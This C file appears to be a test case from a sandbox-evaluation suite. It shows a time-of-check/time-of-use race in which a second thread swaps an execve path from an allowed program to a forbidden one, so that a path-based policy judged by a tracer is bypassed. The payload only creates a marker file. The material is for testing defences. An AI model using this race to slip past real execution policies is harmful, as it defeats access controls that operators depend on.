/* attack
class: policy
aim: call
race: true
tries: the path of a program changes while its exec is judged
expect: { none: contained, process: gap, mpk: contained }
gap: a tracer judges the path before the kernel copies it
*/
/* The policy forbids to execute forbidden-program, by path. Another thread changes the string between the check and the use. */
#include "attack.h"
#include <pthread.h>
static char path[32] = "./harmless-program";
static volatile int running;
static void *flips(void *unused) {
    for (;;) {
        memcpy(path, "./forbidden-program", 20);
        running = 1;
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 30; i++) {}
        memcpy(path, "./harmless-program\0", 20);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 30; i++) {}
    }
    return unused;
}
int main(void) {
    /* Scripts, since what runs can tell its name then. */
    for (int i = 0; i < 2; i++) {
        const char *name = i ? "forbidden-program" : "harmless-program";
        FILE *file = fopen(name, "w");
        fprintf(file, "#!/bin/sh\n%s\n", i ? ": > it-ran" : "exit 0");
        fclose(file);
        chmod(name, 0755);
    }
    struct stat st;
    for (int round = 0; round < 200 && stat("it-ran", &st); round++) {
        pid_t child = fork();
        if (child == 0) {
            pthread_t thread;
            pthread_create(&thread, NULL, flips, NULL);
            char *parts[] = {"p", NULL};
            while (!running) {}
            usleep((unsigned)round % 17);
            for (int i = 0; i < 20; i++) syscall(SYS_execve, path, parts, environ);
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
    int ran = stat("it-ran", &st) == 0;
    errno = 0;
    verdict(ran);
}
